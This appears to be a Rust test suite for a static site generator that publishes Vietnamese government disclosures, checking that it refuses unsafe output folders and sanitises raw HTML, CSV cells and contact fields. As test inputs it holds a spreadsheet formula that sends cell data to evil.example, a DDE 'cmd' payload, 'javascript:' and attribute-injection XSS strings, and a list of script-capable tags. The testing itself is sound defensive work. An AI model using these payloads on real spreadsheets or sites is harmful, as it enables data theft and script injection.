//! A careless operator and a hostile editor: output folders that must not be replaced, raw
//! HTML that must come out valid and checked, text that must not be taken silently.

use crate::support::{Site, tree};

/// Every file of the site's sources, to show that a refused build deleted nothing.
fn sources(site: &Site) -> std::collections::BTreeMap<String, Vec<u8>> {
    let mut all = site.tree("content");
    all.extend(site.tree("data"));
    all.insert("site.yaml".into(), site.read_bytes("site.yaml"));
    all
}

#[test]
fn an_output_that_is_or_holds_the_site_is_refused_even_with_force() {
    let site = Site::fixture("basic");
    let before = sources(&site);
    let root = site.root().to_path_buf();
    let cases: Vec<(Vec<std::ffi::OsString>, &str)> = vec![
        (vec!["--output".into(), root.clone().into()], "is the site's own folder"),
        (vec!["--output".into(), ".".into()], "is the site's own folder"),
        (
            vec!["--output".into(), root.join("content").into()],
            "inside the site's `content/`",
        ),
        (
            vec!["--output".into(), root.join("data/out").into()],
            "inside the site's `data/`",
        ),
        (
            vec!["--output".into(), root.join("static").into()],
            "inside the site's `static/`",
        ),
        (
            vec!["--output".into(), root.join("public/../content/x").into()],
            "inside the site's `content/`",
        ),
        (
            vec!["--output".into(), root.parent().unwrap().into()],
            "contains the site",
        ),
    ];
    for (args, why) in cases {
        for force in [false, true] {
            let mut cmd = site.cmd(["build"]).args(args.clone());
            if force {
                cmd = cmd.args(["--force"]);
            }
            cmd.run()
                .code(2)
                .stderr_has(why)
                .stderr_has("nothing was built or deleted");
            assert_eq!(sources(&site), before, "{args:?} changed the sources");
        }
    }
    // In the site's folder, without --root, as an operator types it.
    site.cmd(["build", "--output"]).args([&root]).no_root().run().code(2);
    site.cmd(["watch", "--output", "."])
        .run()
        .code(2)
        .stderr_has("is the site's own folder");
    assert_eq!(sources(&site), before);
    assert!(!site.path("public").exists(), "a refused build writes nothing");
}

#[test]
fn a_link_to_the_site_is_the_site() {
    let site = Site::fixture("basic");
    let elsewhere = tempfile::tempdir().unwrap();
    let link = elsewhere.path().join("www");
    std::os::unix::fs::symlink(site.root(), &link).unwrap();
    let before = sources(&site);
    site.cmd(["build", "--output"])
        .args([&link])
        .run()
        .code(2)
        .stderr_has("is the site's own folder");
    assert_eq!(sources(&site), before);
}

#[test]
fn a_folder_of_other_files_is_refused_unless_forced() {
    let site = Site::fixture("basic");
    let elsewhere = tempfile::tempdir().unwrap();
    let victim = elsewhere.path().join("victim");
    std::fs::create_dir_all(victim.join("sub")).unwrap();
    std::fs::write(victim.join("precious.txt"), "keep me").unwrap();
    site.cmd(["build", "--output"])
        .args([&victim])
        .run()
        .code(2)
        .stderr_has("holds files that congkhai did not write")
        .stderr_has("--force");
    assert_eq!(std::fs::read_to_string(victim.join("precious.txt")).unwrap(), "keep me");
    // An empty folder, a new one, and a previous output are fine; so is a forced one.
    let empty = elsewhere.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    site.cmd(["build", "--output"]).args([&empty]).run().success();
    assert!(empty.join("index.html").is_file());
    assert!(empty.join(".congkhai-output").is_file(), "the output is marked as ours");
    site.cmd(["build", "--output"]).args([&empty]).run().success();
    let fresh = elsewhere.path().join("a/b/new");
    site.cmd(["build", "--output"]).args([&fresh]).run().success();
    site.cmd(["build", "--output"])
        .args([&victim])
        .args(["--force"])
        .run()
        .success();
    assert!(!victim.join("precious.txt").exists());
    assert!(victim.join("index.html").is_file());
    let files = tree(&victim);
    assert!(files.contains_key(".congkhai-output"));
}

const PAGE: &str = "content/pages/lien-he.md";
const BUNDLE: &str = "content/disclosures/2025/danh-sach-dot-1/index.md";

#[test]
fn raw_html_does_not_move_markdown_links_twice() {
    let site = Site::fixture("basic");
    site.edit(
        PAGE,
        "Gọi 0200",
        "<span>x</span> [ok](/lien-he/) ![Mẫu](/files/mau-don.txt)\n\nGọi 0200",
    );
    site.build_ok();
    let main = crate::support::main_of(&site.out("lien-he/index.html")).to_string();
    assert!(main.contains(r#"<a href="/cong-khai/lien-he/">ok</a>"#), "{main}");
    assert!(main.contains(r#"src="/cong-khai/files/mau-don.txt""#), "{main}");
    assert!(!main.contains("/cong-khai/cong-khai/"), "{main}");
}

#[test]
fn upper_case_end_tags_do_not_swallow_the_body() {
    let site = Site::fixture("basic");
    site.edit(
        PAGE,
        "Gọi 0200",
        "<PRE>x</PRE>\n\n## Mục sau\n\n[bad](/nope/)\n\nGọi 0200",
    );
    let out = site.build().code(1);
    let line = site.line_of(PAGE, "[bad](/nope/)");
    out.error_line(&format!("{PAGE}:{line}:1: error: link to `/nope/`"));
    site.edit(PAGE, "[bad](/nope/)", "[ok](/)");
    site.build_ok();
    let main = crate::support::main_of(&site.out("lien-he/index.html")).to_string();
    assert!(main.contains(r#"<h2 id="muc-sau">Mục sau</h2>"#), "{main}");
    assert!(main.contains("<pre>x</pre>"), "{main}");
}

#[test]
fn raw_html_is_repaired_or_reported_at_its_line() {
    let site = Site::fixture("basic");
    site.edit(
        PAGE,
        "Gọi 0200",
        "<a name=\"dau\"></a> <IMG SRC=\"so-do.png\">\n\n<div id=\"main\">m</div>\n\n![Sơ đồ](khong-co.png) [x](tasks/)\n\nGọi 0200",
    );
    let out = site.build().code(1);
    let img = site.line_of(PAGE, "<IMG");
    let main = site.line_of(PAGE, "id=\"main\"");
    let rel = site.line_of(PAGE, "khong-co.png");
    out.error_line(&format!("{PAGE}:{img}:20: error: an image needs a text alternative"));
    out.error_line(&format!("{PAGE}:{main}:1: error: the id `main` cannot be used here"));
    // Relative links are checked from the page's own address, /lien-he/; every problem of the
    // file is reported in the same run.
    let lines: Vec<&str> = out.stderr.lines().filter(|l| l.starts_with(PAGE)).collect();
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(&format!("{PAGE}:{img}:20: error: link to `so-do.png`"))),
        "{lines:#?}"
    );
    assert!(
        lines.iter().any(
            |l| l.starts_with(&format!("{PAGE}:{rel}:1: error: link to `khong-co.png`"))
                && l.contains("/lien-he/khong-co.png")
        ),
        "{lines:#?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(&format!("{PAGE}:{rel}:24: error: link to `tasks/`"))),
        "{lines:#?}"
    );
    // Fixed as the messages say: the anchor keeps its name as an id, without `rel`, and a
    // raw `<h1>` moves down like a Markdown one, so the page keeps one `<h1>`.
    site.edit(PAGE, "<IMG SRC=\"so-do.png\">", "<h1>Tiêu đề</h1>");
    site.edit(PAGE, "id=\"main\"", "id=\"noi-dung\"");
    site.edit(
        PAGE,
        "![Sơ đồ](khong-co.png) [x](tasks/)",
        "[x](../tasks/) ![Bảng](../files/mau-don.txt)",
    );
    site.build_ok();
    let html = site.out("lien-he/index.html");
    let main = crate::support::main_of(&html);
    assert!(main.contains(r#"<a id="dau"></a>"#), "{main}");
    assert!(!main.contains("rel="), "{main}");
    assert_eq!(html.matches("<h1").count(), 1, "{main}");
    assert!(main.contains("<h2>Tiêu đề</h2>"), "{main}");
    assert!(
        main.contains(r#"href="../tasks/""#),
        "relative links stay relative: {main}"
    );
}

#[test]
fn relative_links_in_a_bundle_and_a_translation() {
    let site = Site::fixture("basic");
    site.edit(BUNDLE, "\n---\n", "\n---\n\n![Danh sách](danh-sach.csv)\n");
    site.build_ok();
    // From the English page, /en/lien-he/, a relative link starts under /en/.
    site.write(
        "content/pages/lien-he.en.md",
        "---\ntitle: Contact\n---\n\n[Tasks](../tasks/) [Files](files/mau-don.txt)\n",
    );
    let out = site.build().code(1);
    let l = out.error_line("content/pages/lien-he.en.md:5:20: error: link to `files/mau-don.txt`");
    assert!(l.contains("/en/lien-he/files/mau-don.txt"), "{l}");
    assert_eq!(
        out.stderr.matches(": error:").count(),
        2,
        "only that link is broken:\n{}",
        out.stderr
    );
}

#[test]
fn csv_cells_cannot_become_formulas() {
    let site = Site::fixture("basic");
    let d = "content/disclosures/lich-tiep-dan.md";
    site.edit(
        d,
        "title: \"Lịch tiếp công dân tháng 11\"\n",
        "title: '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")'\nnumber: \"+cmd|' /C calc'!A0\"\ndoc_type: \"@SUM(1+1)\"\nissuer: \"-2+3\"\n",
    );
    site.edit("data/units.yaml", "head: \"Chánh Văn phòng\"", "head: \"\\tTab\"");
    site.build_ok();
    assert!(site.out("data/units.csv").contains("'\tTab"));
    let csv = site.out("data/disclosures.csv");
    for cell in [
        r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3",
    ] {
        assert!(csv.contains(cell), "`{cell}` not neutralised:\n{csv}");
    }
    // Every cell of every CSV: none starts with a character a spreadsheet runs.
    for file in ["data/disclosures.csv", "data/tasks.csv", "data/units.csv"] {
        let text = site.out(file);
        let mut reader = csv_reader(&text);
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: `{cell}`");
            }
        }
    }
    // JSON keeps the exact text.
    let json: serde_json::Value = serde_json::from_str(&site.out("data/disclosures.json")).unwrap();
    let item = json["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == "lich-tiep-dan")
        .unwrap();
    assert_eq!(item["title"], r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#);
    assert_eq!(item["number"], "+cmd|' /C calc'!A0");
    assert_eq!(item["doc_type"], "@SUM(1+1)");
}

fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
    csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes())
}

#[test]
fn slugs_that_no_file_system_takes_fail_in_check_too() {
    let site = Site::fixture("basic");
    let long = "a".repeat(300);
    site.edit(PAGE, "weight: 10\n", &format!("weight: 10\nslug: {long}\n"));
    let line = site.line_of(PAGE, "slug:");
    for cmd in ["check", "build"] {
        let out = site.cmd([cmd]).run().code(1);
        let l = out.error_line(&format!(
            "{PAGE}:{line}:1: error: the URL slug made from the `slug:` value"
        ));
        assert!(l.contains("300 characters, more than 200"), "{l}");
        assert!(!out.stderr.contains("index.html"), "{}", out.stderr);
    }
    // A slug with nothing to make an address of names the value written.
    site.edit(PAGE, &format!("slug: {long}"), "slug: \"/\"");
    site.cmd(["check"])
        .run()
        .code(1)
        .stderr_has("cannot make a URL slug from the `slug:` value `/`");
}

#[test]
fn new_does_not_write_what_the_build_rejects() {
    let site = Site::fixture("basic");
    site.cmd(["new", "page", "Tasks"])
        .run()
        .code(1)
        .stderr_has("a free page cannot be called `tasks`");
    assert!(!site.path("content/pages/tasks.md").exists());
    let long = "Báo cáo kết quả ".repeat(20);
    let out = site.cmd(["new", "disclosure", long.trim()]).run().success();
    let name = out.stdout.trim().trim_start_matches("created ").to_string();
    let stem = name.rsplit('/').next().unwrap().trim_end_matches(".md");
    assert!(
        stem.len() <= 80 && stem.starts_with("bao-cao-ket-qua-") && !stem.ends_with('-'),
        "{stem}"
    );
    site.cmd(["check"]).run().code(1).stderr_lacks("slug");
}

#[test]
fn attachments_saved_with_decomposed_names_are_found() {
    let site = Site::fixture("basic");
    let nfd = "Danh sa\u{301}ch \u{111}o\u{31b}\u{323}t 1.csv";
    site.write(&format!("content/disclosures/2025/danh-sach-dot-1/{nfd}"), "a,b\r\n");
    site.edit(
        BUNDLE,
        "  - file: danh-sach.csv\n",
        "  - file: \"Danh sách đợt 1.csv\"\n  - file: danh-sach.csv\n",
    );
    site.build_ok();
    assert!(site.has_out("disclosures/danh-sach-dot-1/Danh sách đợt 1.csv"));
    let page = site.out("disclosures/danh-sach-dot-1/index.html");
    assert!(page.contains("Danh%20s%C3%A1ch%20%C4%91%E1%BB%A3t%201.csv"), "{page}");
}

#[test]
fn every_attachment_problem_of_a_file_at_once() {
    let site = Site::fixture("basic");
    site.edit(
        BUNDLE,
        "  - file: danh-sach.csv\n    title: \"Danh sách thí sinh\"\n",
        "  - file: a.pdf\n  - file: ../../x.pdf\n  - {file: b.pdf, titel: B}\n  - {file: danh-sach.csv, title: [x]}\n",
    );
    let out = site.cmd(["check"]).run().code(1);
    for (needle, message) in [
        ("a.pdf", "error: attachment `a.pdf` not found"),
        ("x.pdf", "error: attachment `../../x.pdf` must stay inside the site"),
        ("b.pdf", "error: attachment `b.pdf` not found"),
        ("b.pdf", "warning: unknown field `titel` in this attachment is ignored"),
        (
            "title: [x]",
            "error: an attachment's `title` must be a single text value",
        ),
    ] {
        let line = site.line_of(BUNDLE, needle);
        out.error_line(&format!("{BUNDLE}:{line}:1: {message}"));
    }
}

#[test]
fn a_linked_folder_on_an_attachment_path_is_named() {
    let site = Site::fixture("basic");
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("a.pdf"), "x").unwrap();
    std::os::unix::fs::symlink(outside.path(), site.path("static/ngoai")).unwrap();
    std::os::unix::fs::symlink(
        site.path("content/pages/lien-he.md"),
        site.path("content/pages/lien-ket.md"),
    )
    .unwrap();
    site.edit(
        BUNDLE,
        "  - file: danh-sach.csv\n",
        "  - file: /ngoai/a.pdf\n  - file: danh-sach.csv\n",
    );
    let out = site.cmd(["check"]).run().code(1);
    let line = site.line_of(BUNDLE, "/ngoai/a.pdf");
    let l = out.error_line(&format!("{BUNDLE}:{line}:1: error: attachment `/ngoai/a.pdf`"));
    assert!(
        l.contains("the folder `static/ngoai` on its path is a symbolic link"),
        "{l}"
    );
    out.error_line("static/ngoai:1:1: warning: symbolic link in static/ is not read or published");
    out.error_line("content/pages/lien-ket.md:1:1: warning: symbolic link in content/ is not read or published");
}

#[test]
fn keys_written_twice_are_errors_where_they_repeat() {
    let site = Site::fixture("basic");
    site.edit(
        "content/disclosures/lich-tiep-dan.md",
        "task: tiep-dan\n",
        "task: tiep-dan\nrevisions:\n  - {date: 2025-11-01, note: a}\nrevisions:\n  - {date: 2025-11-02, note: b}\n",
    );
    site.edit(
        "data/units.yaml",
        "  short: \"TT\"\n",
        "  short: \"TT\"\n  name: \"Thanh tra tỉnh\"\n",
    );
    let out = site.build().code(1);
    let d = "content/disclosures/lich-tiep-dan.md";
    out.error_line(&format!("{d}:8:1: error: `revisions` is written twice"));
    let line = site.line_of("data/units.yaml", "Thanh tra tỉnh");
    out.error_line(&format!("data/units.yaml:{line}:3: error: `name` is written twice"));
    site.edit("site.yaml", "per_page: 2\n", "per_page: 2\nper_page: 3\n");
    let out = site.build().code(1);
    let line = site.line_of("site.yaml", "per_page: 3");
    out.error_line(&format!("site.yaml:{line}:1: error: `per_page` is written twice"));
}

#[test]
fn unknown_keys_of_data_and_site_yaml_are_named() {
    let site = Site::fixture("basic");
    site.edit(
        "data/units.yaml",
        "  short: \"TT\"\n",
        "  short: \"TT\"\n  emial: tt@example.gov.vn\n",
    );
    site.edit(
        "site.yaml",
        "  email: \"vanphong@example.gov.vn\"\n",
        "  email: \"vanphong@example.gov.vn\"\n  hotline: \"1022\"\n",
    );
    let out = site.build_ok();
    let line = site.line_of("data/units.yaml", "emial");
    out.error_line(&format!(
        "data/units.yaml:{line}:1: warning: unknown field `emial` is ignored (known: id, name"
    ));
    let line = site.line_of("site.yaml", "hotline");
    out.error_line(&format!(
        "site.yaml:{line}:1: warning: unknown setting `office.hotline` is ignored"
    ));
}

#[test]
fn yaml_messages_speak_of_the_file_not_the_program() {
    let site = Site::fixture("basic");
    site.write("site.yaml", "hello\n");
    site.build()
        .code(1)
        .stderr_has(
            "site.yaml:1:1: error: invalid YAML: invalid type: string \"hello\", expected fields written `name: value`",
        )
        .stderr_lacks("RawSiteConfig");
    site.write("site.yaml", "title: T\nbase_url: https://a.vn/\noffice:\n\tname: x\n");
    site.build()
        .code(1)
        .stderr_has("site.yaml:4:1: error: invalid YAML: a tab is used for indentation")
        .stderr_lacks("`@`");
}

#[test]
fn static_files_cannot_take_generated_paths() {
    let site = Site::fixture("basic");
    site.write("static/lien-he/index.html", "<p>cũ</p>");
    site.write("static/feed.xml", "<feed/>");
    site.write("static/search/index.json", "{}");
    site.write("content/disclosures/2025/danh-sach-dot-1/index.html", "<p>x</p>");
    let out = site.build().code(1);
    for (path, url) in [
        ("static/lien-he/index.html", "/lien-he/index.html"),
        ("static/feed.xml", "/feed.xml"),
        ("static/search/index.json", "/search/index.json"),
        (
            "content/disclosures/2025/danh-sach-dot-1/index.html",
            "/disclosures/danh-sach-dot-1/index.html",
        ),
    ] {
        let l = out.error_line(&format!("{path}:1:1: error: this file would be published as {url}"));
        assert!(l.contains("rename or move it"), "{l}");
    }
}

#[test]
fn direction_controls_in_names_and_text_are_errors() {
    let site = Site::fixture("basic");
    site.write("static/files/hoa-don\u{202e}fdp.exe", "x");
    site.edit(PAGE, "title: \"Liên hệ\"", "title: \"Liên hệ \u{2067}x\"");
    let out = site.build().code(1);
    out.error_line("static/files/hoa-don?fdp.exe:1:1: error: the file name holds an invisible character");
    out.error_line(&format!("{PAGE}:2:17: error: an invisible character U+2067"));
    assert_eq!(out.stderr.matches(": error:").count(), 2, "{}", out.stderr);
}

#[test]
fn contacts_that_cannot_be_links_are_errors() {
    let site = Site::fixture("basic");
    site.edit(
        "data/units.yaml",
        "  phone: \"0200 000 0001\"",
        "  phone: \"javascript:alert(1)\"",
    );
    site.edit(
        "data/units.yaml",
        "  email: \"vp@example.gov.vn\"",
        "  email: \"vp@example.gov.vn\\\"><b>x</b>\"",
    );
    site.edit(
        "site.yaml",
        "  email: \"vanphong@example.gov.vn\"",
        "  email: \"mailto:x\"",
    );
    let out = site.build().code(1);
    let line = site.line_of("site.yaml", "mailto:x");
    out.error_line(&format!(
        "site.yaml:{line}:1: error: `office.email`: `mailto:x` is not an e-mail address"
    ));
    // site.yaml failed: fix it to see the data file's errors.
    site.edit(
        "site.yaml",
        "  email: \"mailto:x\"",
        "  email: \"vanphong@example.gov.vn\"",
    );
    let out = site.build().code(1);
    let line = site.line_of("data/units.yaml", "javascript");
    out.error_line(&format!(
        "data/units.yaml:{line}:1: error: `phone` of `van-phong`: `javascript:alert(1)` is not a telephone number"
    ));
    let line = site.line_of("data/units.yaml", "<b>x");
    out.error_line(&format!("data/units.yaml:{line}:1: error: `email` of `van-phong`"));
}

#[test]
fn a_base_url_that_is_not_a_plain_address_is_refused() {
    let site = Site::fixture("basic");
    site.cmd(["build", "--base-url", "https://a.vn/x\"onmouseover=\"alert(1)/"])
        .run()
        .code(1)
        .stderr_has("--base-url:1:1: error: `base_url` must be an absolute http(s) URL");
    site.edit(
        "site.yaml",
        "https://example.gov.vn/cong-khai/",
        "https://example.gov.vn/<b>/",
    );
    site.build()
        .code(1)
        .stderr_has("site.yaml:3:1: error: `base_url` must be an absolute http(s) URL");
}

#[test]
fn table_cells_stay_apart_in_the_feed_and_search() {
    let site = Site::fixture("basic");
    site.edit(
        "content/disclosures/lich-tiep-dan.md",
        "Lịch tiếp công dân.",
        "| Ngày | Người tiếp | Địa điểm |\n|---|---|---|\n| 17/11 | Chủ tịch | Trụ sở |",
    );
    site.build_ok();
    let feed = site.out("feed.xml");
    assert!(
        feed.contains("Ngày Người tiếp Địa điểm 17/11 Chủ tịch Trụ sở"),
        "{feed}"
    );
    let docs: Vec<String> = site
        .tree("public/search/doc")
        .into_values()
        .map(|b| String::from_utf8(b).unwrap())
        .collect();
    assert!(
        docs.iter().any(|d| d.contains("Ngày Người tiếp Địa điểm 17/11")),
        "{docs:?}"
    );
}

/// The fixture of raw HTML pasted from old editors (checked by the Nu Html Checker and axe-core
/// in `.ci/run`): it builds, every dropped part is named, and nothing script-capable is left.
#[test]
fn the_hostile_fixture_builds_clean_and_safe() {
    let site = Site::fixture("hostile");
    let out = site.build_ok();
    let page = "content/pages/van-ban-dan-tu-word.md";
    for what in [
        "`<script>`",
        "`<iframe>`",
        "`<form>`",
        "`onclick`",
        "`onerror`",
        "`<font>`",
        "`lang=\"x y\"`",
    ] {
        assert!(
            out.stderr
                .lines()
                .any(|l| l.starts_with(page) && l.contains("warning") && l.contains(what)),
            "no warning about {what}:\n{}",
            out.stderr
        );
    }
    for (path, bytes) in site.tree("public") {
        if !path.ends_with(".html") {
            continue;
        }
        let html = String::from_utf8(bytes).unwrap().to_ascii_lowercase();
        // What bodies give: the `content` parts of the page (the theme's own search form is
        // not theirs).
        for body in html.split("<div class=\"content\">").skip(1) {
            let body = body.split("</article>").next().unwrap();
            for bad in [
                "<script",
                "<iframe",
                "<form",
                "<input",
                "<style",
                " onclick",
                " onerror",
                "javascript:",
                "<center",
                "<font",
                "rel=",
                "target=",
            ] {
                assert!(!body.contains(bad), "{path}: `{bad}` in\n{body}");
            }
        }
        assert_eq!(html.matches("<h1").count(), 1, "{path}");
        assert_eq!(html.matches("id=\"main\"").count(), 1, "{path}");
    }
}
